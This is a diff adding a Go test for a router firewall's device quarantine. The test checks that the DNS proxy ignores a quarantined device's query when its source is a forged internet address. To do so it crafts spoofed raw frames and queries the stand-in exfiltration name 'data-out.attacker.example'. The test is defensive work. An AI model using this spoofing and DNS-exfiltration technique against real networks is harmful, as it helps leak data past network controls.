@@ -1045,3 +1045,66 @@ func TestSpoofedDNSReachesNoResolver(t *testing.T) {
 		}
 	}
 }
+
+// TestForgedInternetSourceDNSUnanswered: a quarantined device's query
+// from an internet address it made up is not answered. The answer would
+// go to that address through the WAN, from the address the device asked
+// (the router's WAN address here, which the ISP lets out): the name the
+// device chose would reach a host on the internet of its choosing.
+func TestForgedInternetSourceDNSUnanswered(t *testing.T) {
+	requireRoot(t)
+	ctx := context.Background()
+	l := newLab(t)
+	n, err := NewNFTables(Config{
+		RouterAddrs:   addrs(routerV4, routerV6, "198.18.0.1", "2001:2::1"),
+		LANPrefixes:   []netip.Prefix{netip.MustParsePrefix("10.99.0.0/24"), netip.MustParsePrefix("fd99::/64")},
+		NoticePort:    noticePort,
+		DNSProxyPort:  dnsProxyPort,
+		LANInterfaces: []string{"br0"},
+	}, WithNetNSFd(netnstest.Fd(t, l.router)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := n.Reconcile(ctx, []Entry{{MAC: deviceMAC, Addrs: addrs(deviceV4, deviceV6), Mode: ModeBlock}}); err != nil {
+		t.Fatal(err)
+	}
+	var wanConn net.PacketConn
+	if err := netnstest.Run(l.wan, func() (err error) { wanConn, err = net.ListenPacket("udp4", wanV4+":7777"); return err }); err != nil {
+		t.Fatal(err)
+	}
+	defer wanConn.Close()
+	var devConn net.PacketConn
+	if err := netnstest.Run(l.device, func() (err error) { devConn, err = net.ListenPacket("udp4", deviceV4+":7777"); return err }); err != nil {
+		t.Fatal(err)
+	}
+	defer devConn.Close()
+
+	routerMAC := hwaddr.FromBytes(netnstest.Interface(t, l.router, "br0").HardwareAddr)
+	for _, tc := range []struct {
+		name     string
+		src      string
+		to       net.PacketConn
+		answered bool
+	}{
+		{"own address", deviceV4, devConn, true}, // the frames reach the proxy
+		{"internet address", wanV4, wanConn, false},
+	} {
+		q := new(dns.Msg)
+		q.SetQuestion("data-out.attacker.example.", dns.TypeA)
+		wire, err := q.Pack()
+		if err != nil {
+			t.Fatal(err)
+		}
+		src, dst := netip.MustParseAddr(tc.src), netip.MustParseAddr("198.18.0.1")
+		sendFrames(t, l.device, [][]byte{ipv4Frame(routerMAC, deviceMAC, src, dst, unix.IPPROTO_UDP, 9, 0, false,
+			udpDatagram(7777, 53, string(wire)))})
+		tc.to.SetReadDeadline(time.Now().Add(1500 * time.Millisecond))
+		buf := make([]byte, 512)
+		nr, _, err := tc.to.ReadFrom(buf)
+		var r dns.Msg
+		answered := err == nil && r.Unpack(buf[:nr]) == nil && r.Id == q.Id
+		if answered != tc.answered {
+			t.Errorf("a query from the device with its %s as source: answered %v, want %v", tc.name, answered, tc.answered)
+		}
+	}
+}
